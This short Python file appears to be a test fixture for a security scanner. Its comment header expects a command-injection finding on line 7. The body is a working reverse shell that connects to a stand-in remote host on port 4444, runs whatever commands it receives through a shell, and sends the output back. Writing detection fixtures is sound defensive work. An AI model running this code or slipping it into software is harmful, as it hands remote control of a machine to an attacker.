# expect: 7 command-injection
import socket, subprocess
s = socket.socket()
s.connect(('198.51.100.7', 4444))
while True:
    cmd = s.recv(1024).decode()
    out = subprocess.run(cmd, shell=True, capture_output=True)
    s.send(out.stdout)
